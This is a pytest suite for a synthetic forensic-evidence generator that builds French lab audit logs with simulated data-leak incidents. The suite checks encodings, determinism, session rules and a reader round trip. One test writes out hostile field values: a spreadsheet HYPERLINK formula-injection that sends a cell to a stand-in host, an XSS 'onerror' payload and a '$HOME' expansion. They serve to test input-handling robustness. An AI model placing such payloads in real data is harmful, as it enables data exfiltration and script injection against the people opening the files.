"""Tests of the synthetic evidence generator: bytes, truth, determinism, round trip."""

from __future__ import annotations

import datetime as dt
import gzip
import hashlib
import zlib
from pathlib import Path
from zoneinfo import ZoneInfo

import numpy as np
import pandas as pd
import pytest

from labforensics.synth import SynthError, generate, load_truth

PARIS = ZoneInfo("Europe/Paris")
LEGACY_HEADER = b"DATE;HEURE;LABO;SITE;UTILISATEUR;PROFIL;POSTE;IP;MODULE;ACTION;RESULTAT;IPP;DOSSIER;NB_ENREG;DETAIL\r\n"
CURRENT_HEADER = (
    b"\xef\xbb\xbfhorodatage;code_labo;code_site;login;profil;poste;adresse_ip;module;action;statut;"
    b"ipp;num_demande;nb_lignes;volume_octets;id_session;commentaire\n"
)
SMALL = dict(
    labs=3,
    start="2019-01-07",
    end="2019-04-30",
    scale=0.2,
    gzip_after_days=20,
    requested_extractions=True,
)


@pytest.fixture(scope="module")
def small(tmp_path_factory):
    out = tmp_path_factory.mktemp("synth") / "case"
    res = generate(out, seed=3, **SMALL)
    return res


@pytest.fixture(scope="module")
def fallback(tmp_path_factory):
    out = tmp_path_factory.mktemp("synth_fb") / "case"
    return generate(out, labs=2, start="2019-10-20", end="2019-11-03", scale=0.15, seed=5)


@pytest.fixture(scope="module")
def ingested(small):
    ingest = pytest.importorskip("labforensics.ingest")
    if not hasattr(ingest, "read_evidence"):
        pytest.skip("labforensics.read_evidence is not available yet")
    return ingest.read_evidence(small.evidence, case_key=bytes(range(32)))


@pytest.fixture(scope="module")
def tevents(small):
    return pd.read_parquet(small.truth_events)


def _digest(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _raw(path: Path) -> bytes:
    """File bytes, gunzipped with a streaming decompressor (tolerates a cut member)."""
    b = path.read_bytes()
    return zlib.decompressobj(31).decompress(b) if path.name.endswith(".gz") else b


def test_same_seed_same_bytes_other_seed_differs(tmp_path):
    cfg = dict(labs=2, start="2019-03-28", end="2019-04-08", scale=0.1, gzip_after_days=5)
    a = _digest(generate(tmp_path / "a", seed=11, **cfg).out)
    b = _digest(generate(tmp_path / "b", seed=11, **cfg).out)
    c = _digest(generate(tmp_path / "c", seed=12, **cfg).out)
    assert a == b  # determinism: every file, truth and parquet included, byte for byte
    assert a != c  # another seed changes the contents


def test_regenerating_replaces_previous_files(tmp_path):
    cfg = dict(labs=1, start="2019-06-03", end="2019-06-09", scale=0.1, incidents=())
    generate(tmp_path / "o", **cfg)
    stale = tmp_path / "o" / "evidence" / "L01" / "AUDIT_L01_20000101.csv"
    stale.write_bytes(b"x")
    generate(tmp_path / "o", **cfg)
    assert not stale.exists()  # no stale daily file survives to be read as evidence
    (tmp_path / "p" / "evidence").mkdir(parents=True)
    (tmp_path / "p" / "evidence" / "mine.csv").write_bytes(b"x")
    with pytest.raises(SynthError, match="not a generated folder"):
        generate(tmp_path / "p", **cfg)


def test_bad_parameters():
    with pytest.raises(SynthError, match="before start"):
        generate("/nonexistent/x", start="2020-01-02", end="2020-01-01")
    with pytest.raises(SynthError, match="leak_sample"):
        generate("/nonexistent/x", leak_sample=0)
    with pytest.raises(SynthError, match="unknown incident"):
        generate("/nonexistent/x", incidents=("z",))


def test_headers_encodings_line_ends(small):
    ev = small.evidence
    leg = sorted(ev.glob("*/AUDIT_*.csv"))
    cur = sorted(ev.glob("*/audit_*.csv"))
    gz = sorted(ev.glob("*/AUDIT_*.csv.gz"))
    assert leg and cur and gz
    for p in leg:
        b = p.read_bytes()
        assert b.startswith(LEGACY_HEADER)  # exact header, no BOM, CRLF
        assert b.count(b"\n") == b.count(b"\r\n")  # every line break is CRLF
    for p in cur:
        b = p.read_bytes()
        assert b.startswith(CURRENT_HEADER)  # BOM + exact header + LF
        assert b"\r\n" not in b
    for p in gz:
        b = p.read_bytes()
        assert b[:4] == b"\x1f\x8b\x08\x00" and b[4:8] == b"\x00\x00\x00\x00"  # no name, mtime 0
        assert _raw(p).startswith(LEGACY_HEADER)
    # the nightly job's 'Vérification sauvegarde' is cp1252 in legacy files, UTF-8 in current ones
    assert b"V\xe9rification" in leg[0].read_bytes()
    assert "Vérification".encode() in cur[0].read_bytes()


def test_files_named_by_dialect_around_migration(small):
    t = load_truth(small.out)
    for lab in t["labs"]:
        mig = dt.date.fromisoformat(lab["migration_date"])
        d = small.evidence / lab["code"]
        leg = [dt.datetime.strptime(p.name[10:18], "%Y%m%d").date() for p in d.glob("AUDIT_*")]
        cur = [dt.date.fromisoformat(p.name[10:20]) for p in d.glob("audit_*")]
        assert leg and cur
        assert max(leg) < mig <= min(cur)  # legacy strictly before the migration date


def test_accounting_identity_and_totals(small):
    t = load_truth(small.out)
    acc = t["accounting"]
    for f, a in acc["files"].items():
        # the format doc's identity: every row is exactly one of these
        assert (
            a["rows_read"]
            == a["events"] + a["rotation_duplicates"] + a["repeated_headers"] + a["quarantined"]
        ), f
    assert acc["totals"]["events"] == sum(a["events"] for a in acc["files"].values())
    kinds = {a["kind"] for a in t["artefacts"]}
    assert {
        "rotation_overlap",
        "repeated_header",
        "cut_line",
        "wrong_width",
        "bad_date",
        "gzip_cut",
    } <= kinds
    assert {"nonexistent_hour", "unknown_action"} <= kinds


def _s(x: object) -> str:
    return "" if pd.isna(x) else str(x)


def _parse_simple(line: str) -> list[str]:
    return line.rstrip("\r\n").split(";")


def test_truth_events_are_at_their_lines(small, tevents):
    te = tevents[~tevents.lost & ~tevents.detail.fillna("").str.contains('[;"\n]', regex=True)]
    sample = te.sample(300, random_state=0) if len(te) > 300 else te
    cache: dict[str, list[str]] = {}
    for r in sample.itertuples():
        if r.source_file not in cache:
            p = small.evidence / r.source_file
            enc = "cp1252" if p.name.startswith("AUDIT_") else "utf-8-sig"
            cache[r.source_file] = _raw(p).decode(enc).split("\n")
        f = _parse_simple(cache[r.source_file][r.source_line - 1])
        loc = r.ts.tz_convert(PARIS)
        if r.source_file.split("/")[1].startswith("AUDIT_"):
            assert len(f) == 15
            if r.ts_quality == "nonexistent_shifted":  # clock not switched: winter offset
                loc = (r.ts + pd.Timedelta(hours=1)).tz_localize(None)
            assert f[0] == loc.strftime("%d/%m/%Y") and f[1] == loc.strftime("%H:%M:%S")
            assert (f[4], f[9], f[11]) == (r.account, r.action, _s(r.ipp))
        else:
            assert len(f) == 16
            assert pd.Timestamp(f[0]) == r.ts  # ISO with offset is the same instant
            assert (f[3], f[8], f[10], f[14]) == (r.account, r.action, _s(r.ipp), _s(r.app_session))


def test_incident_a_extracts_every_registered_patient(small, tevents):
    t = load_truth(small.out)
    inc_a = [i for i in t["incidents"] if i["kind"] == "a"]
    assert inc_a  # most labs by default
    leak = pd.read_csv(small.leak_ipps, sep=";", dtype=str)
    for i in inc_a:
        lab = i["lab"]
        idx = pd.read_csv(small.out / "leak" / f"patient_index_{lab}.csv", sep=";", dtype=str)
        leaked = leak.loc[leak.lab == lab, "ipp"]
        # the extraction holds every patient registered so far: the first N of the registry
        assert len(leaked) == i["records"]
        assert leaked.tolist() == idx.IPP.iloc[: i["records"]].tolist()
        ext = tevents[(tevents.incident == i["id"]) & (tevents.action == "EXTRACTION")]
        assert len(ext) == 1 and int(ext.records.iloc[0]) == i["records"]
        assert i["file"] in ext.detail.iloc[0]
        # horizon: patients seen before the extraction are leaked; some seen later are not
        mine = tevents[(tevents.lab == lab) & tevents.ipp.notna()]
        before = set(mine.loc[mine.ts < ext.ts.iloc[0], "ipp"])
        after = set(mine.loc[mine.ts > ext.ts.iloc[0] + pd.Timedelta(days=2), "ipp"])
        assert before <= set(leaked)
        assert after - set(leaked)


def test_ipps_unique_per_lab_only(small):
    t = load_truth(small.out)
    idx = {
        lab["code"]: pd.read_csv(
            small.out / "leak" / f"patient_index_{lab['code']}.csv", sep=";", dtype=str
        )
        for lab in t["labs"]
    }
    for df in idx.values():
        assert df.IPP.is_unique and df.IPP.str.fullmatch(r"[0-9]+").all()
    a, b = list(idx.values())[:2]
    assert set(a.IPP) & set(b.IPP)  # the same IPP value exists in two labs: identity is (lab, IPP)


def test_nir_keys_valid(small):
    nirs = pd.read_csv(small.leak_nirs, dtype=str)["nir"]
    assert len(nirs) > 0
    first, key = nirs.str[:13].astype("int64"), nirs.str[13:].astype("int64")
    assert ((97 - first % 97) == key).all()  # INSEE key rule


def test_xferlog_links_extractions_to_anonymous_downloads(small):
    t = load_truth(small.out)
    lines = small.xferlog.read_text().splitlines()
    toks = [ln.split() for ln in lines]
    assert all(len(x) == 18 for x in toks)  # 5 date tokens + 13 fields
    for i in (i for i in t["incidents"] if i["kind"] == "a"):
        rows = [x for x in toks if x[8].endswith("/" + i["file"])]
        up = [x for x in rows if x[11] == "i"]
        down = [x for x in rows if x[11] == "o"]
        assert len(up) == 1 and up[0][13] == "migration.editeur" and up[0][6].startswith("172.16.")
        assert int(up[0][7]) == i["bytes"]
        assert down and all(x[12] == "a" for x in down)  # anonymous access mode
    # the extractions that were asked for go to the vendor's import server, never anonymously
    for r in (r for r in t["traps"] if r["kind"] == "migration_request"):
        rows = [x for x in toks if x[8].endswith("/" + r["file"])]
        assert [x[11] for x in rows] == ["i", "o"] and all(x[12] == "r" for x in rows)
        assert r["transfer"]["downloads"][0]["user"] == "migration.editeur"


def test_sessions_follow_idle_rules(small, tevents):
    s = tevents[tevents.session >= 0].sort_values(["session", "ts"])
    gaps = s.groupby("session").ts.diff().dt.total_seconds().dropna()
    assert gaps.max() < 1800  # inside a session: < 30 min idle
    ts = pd.read_parquet(small.truth_sessions).sort_values(["lab", "account", "host", "start"])
    nxt = ts.groupby(["lab", "account", "host"]).start.shift(-1)
    between = (nxt - ts.end).dt.total_seconds().dropna()
    assert between.min() > 1800  # between sessions of one account on one host: > 30 min
    assert ts.concurrent.any()  # the shared hotline account is used from two places at once
    assert (ts.loc[ts.concurrent, "role"] == "EDITEUR").all()
    # every failed login is attached to exactly one following session
    failed = tevents[
        tevents.action.str.upper().isin(["ECHEC_CONNEXION", "CONNEXION"])
        & (tevents.outcome == "failure")
    ]
    assert ts.failed_logins_before.sum() == len(failed)
    assert (~ts.has_logout).any() and ts.has_logout.mean() > 0.7
    files = s.groupby("session").source_file.nunique()
    assert (files > 1).any()  # some sessions (on call) run past midnight into the next file


def test_sessionize_recovers_truth_sessions(small, ingested, tevents):
    sessions = pytest.importorskip("labforensics.sessions")
    ss = sessions.sessionize(ingested.events)
    e = ss.events.merge(
        tevents[["source_file", "source_line", "session"]], on=["source_file", "source_line"]
    )
    e = e[e.session >= 0]
    # a 30-min idle timeout recovers the generator's sessions one for one
    assert (e.groupby("session").session_id.nunique() == 1).all()
    assert (e.dropna(subset=["session_id"]).groupby("session_id").session.nunique() == 1).all()
    # failed logins are counted on the session that follows them
    ts = pd.read_parquet(small.truth_sessions).set_index("session")
    pair = e.drop_duplicates("session").set_index("session").session_id
    got = ss.sessions.set_index("session_id").failed_logins_before.reindex(pair.values).to_numpy()
    assert (got == ts.failed_logins_before.reindex(pair.index).to_numpy()).all()


def test_incidents_and_traps_present(small):
    t = load_truth(small.out)
    assert {i["kind"] for i in t["incidents"]} == {"a", "b", "c", "d"}
    kinds = {x["kind"] for x in t["traps"]}
    assert kinds == {"billing", "statistics", "interface", "nightly_job", "migration_request"}
    # migration_request appears because SMALL turns requested_extractions on (off by default)
    c = next(i for i in t["incidents"] if i["kind"] == "c")
    assert c["vector"] == "external" and c["failed_logins"] >= 15
    d = next(i for i in t["incidents"] if i["kind"] == "d")
    assert d["consultations"] >= 200  # hundreds of unrelated patients


def test_fallback_rows_written_in_order(fallback):
    te = pd.read_parquet(fallback.truth_events)
    amb = te[te.ts_quality == "ambiguous_resolved"]
    assert len(amb) > 0
    for f, g in amb.groupby("source_file"):
        # the file's second pass (after 01:00 UTC) comes after the first pass, lines ascending
        assert g.sort_values("source_line").ts.is_monotonic_increasing, f


def test_round_trip_with_reader(small, tevents, ingested):
    ev = ingested
    t = load_truth(small.out)
    fr = ev.report.to_frame().set_index("source_file")
    for f, a in t["accounting"]["files"].items():
        for k in ("rows_read", "events", "rotation_duplicates", "repeated_headers", "quarantined"):
            assert int(fr.loc[f, k]) == a[k], (f, k)
    assert sorted(ev.report.truncated_files) == t["accounting"]["totals"]["truncated_files"]
    te = tevents[~tevents.lost]
    m = ev.events.merge(te, on=["source_file", "source_line"], suffixes=("", "_t"))
    assert len(m) == len(te) == len(ev.events)  # one reader event per truth event, same place
    assert (m.ts == m.ts_t).all()
    assert (m.account.astype(str) == m.account_t.astype(str)).all()
    assert (m.action_raw.astype(str) == m.action_t.astype(str)).all()
    assert (m.ts_quality.astype(str) == m.ts_quality_t.astype(str)).all()
    rec = (
        m.records.astype("Float64").fillna(-1).to_numpy()
        == m.records_t.astype("Float64").fillna(-1).to_numpy()
    )
    assert rec.all()


def test_gzip_cut_counts_match_streaming_decompression(small):
    t = load_truth(small.out)
    for a in (a for a in t["artefacts"] if a["kind"] == "gzip_cut"):
        p = small.evidence / a["file"]
        with pytest.raises(EOFError):
            gzip.decompress(p.read_bytes())  # really cut short
        got = _raw(p)
        assert got.count(b"\r\n") - 1 == a["rows_recovered"]  # header aside, complete rows
        assert not got.endswith(b"\n")


def test_scale_multiplies_activity(tmp_path):
    cfg = dict(
        labs=1, start="2019-06-03", end="2019-06-16", incidents=(), artefacts=False, hostile=False
    )
    lo = generate(tmp_path / "lo", scale=0.2, **cfg).counts["events"]
    hi = generate(tmp_path / "hi", scale=1.0, **cfg).counts["events"]
    assert 2.5 < hi / lo < 8  # about 5x the activity, nightly job aside
    assert np.isfinite(hi)


def test_session_events_densify_sessions(tmp_path):
    # the dense demo's knob (issue 17 item 4): at 1.0 nothing changes, byte for byte
    cfg = dict(labs=1, start="2019-06-03", end="2019-06-16", scale=1.0, seed=4)
    base = generate(tmp_path / "base", **cfg)
    one = generate(tmp_path / "one", session_events=1.0, **cfg)
    assert _digest(base.out) == _digest(one.out)
    assert "session_events" not in load_truth(base.out)["parameters"]
    dense = generate(tmp_path / "dense", session_events=4.0, **cfg)
    assert load_truth(dense.out)["parameters"]["session_events"] == 4.0
    # about 4x the staff's actions (and the interfaces' events that follow them) in
    # about as many sessions
    assert 2.5 < dense.counts["events"] / base.counts["events"] < 4.5
    assert 0.8 < dense.counts["sessions"] / base.counts["sessions"] < 1.25
    for bad in (0, -1.0):
        with pytest.raises(SynthError, match="session_events"):
            generate(tmp_path / "bad", session_events=bad, **cfg)


def test_hostile_text_quoted_and_encoded(small):
    legacy = b"".join(_raw(p) for p in sorted(small.evidence.glob("*/AUDIT_*")))
    current = b"".join(p.read_bytes() for p in sorted(small.evidence.glob("*/audit_*")))
    both = legacy + current
    # a field holding ; and " is quoted, inner quotes doubled
    assert b'"=HYPERLINK(""http://x.example/?""&A1;""ok"")"' in both
    assert b"<img src=x onerror=alert(1)>;" in both and b"cost $x^2$ \\$HOME;" in both
    # a comment with a line break: CRLF inside the quotes in legacy, LF in current
    assert b'"Valeur corrig\xe9e; ancien: 5,2\r\nnouveau: 5,4 \x97 l\x92unit\xe9' in legacy
    assert '"Valeur corrigée; ancien: 5,2\nnouveau: 5,4 — l’unité'.encode() in current


def test_digit_grouping_in_legacy_counts(small):
    import re

    legacy = b"".join(_raw(p) for p in sorted(small.evidence.glob("*/AUDIT_*")))
    # NB_ENREG (14th field) with a no-break space (0xA0) and with a plain space
    assert re.search(rb";\d{1,3}\xa0\d{3};[^;\r\n]*\r\n", legacy)
    assert re.search(rb";\d{1,3} \d{3};[^;\r\n]*\r\n", legacy)
    current = b"".join(p.read_bytes() for p in sorted(small.evidence.glob("*/audit_*")))
    assert b"\xc2\xa0" not in current  # the current dialect writes plain digits


def test_spring_forward_rows_in_nonexistent_hour(small):
    t = load_truth(small.out)
    rows = [a for a in t["artefacts"] if a["kind"] == "nonexistent_hour"]
    assert rows
    for a in rows:
        line = _raw(small.evidence / a["file"]).decode("cp1252").split("\r\n")[a["line"] - 1]
        date, hms = line.split(";")[:2]
        assert date == "31/03/2019" and hms.startswith("02:")  # last Sunday of March 2019


def test_finess_in_lab_column(tmp_path):
    res = generate(tmp_path / "f", labs=1, start="2019-06-03", end="2019-06-09", scale=0.1,
                   incidents=(), finess_in_lab_column=True)  # fmt: skip
    t = load_truth(res.out)
    lab = t["labs"][0]
    assert lab["legacy_lab_column"] == "finess" and len(lab["finess"]) == 9
    body = _raw(sorted(res.evidence.glob("L01/AUDIT_*"))[0]).decode("cp1252")
    assert body.split("\r\n")[1].split(";")[2] == lab["finess"]  # LABO holds the FINESS number
    digits = [int(c) for c in lab["finess"][::-1]]  # Luhn check over all 9 digits
    assert (
        sum(d if i % 2 == 0 else (d * 2 - 9 if d * 2 > 9 else d * 2) for i, d in enumerate(digits))
        % 10
        == 0
    )


def test_simulated_clock_agrees_with_the_tz_database():
    # the generator's hand-coded EU rule gives the tz database's offsets for SIM_TZ, at
    # every hour of 2015-2030 (both clock-change nights included)
    from zoneinfo import ZoneInfo

    import numpy as np
    import pandas as pd

    from labforensics.synth.clock import SIM_TZ, local_offset

    t = np.arange(
        int(pd.Timestamp("2015-01-01", tz="UTC").timestamp()),
        int(pd.Timestamp("2031-01-01", tz="UTC").timestamp()),
        3600,
        dtype=np.int64,
    )
    want = (
        pd.to_datetime(t, unit="s", utc=True)
        .tz_convert(ZoneInfo(SIM_TZ))
        .map(lambda x: x.utcoffset().total_seconds())
    )
    assert (local_offset(t) == np.asarray(want, dtype=np.int64)).all()
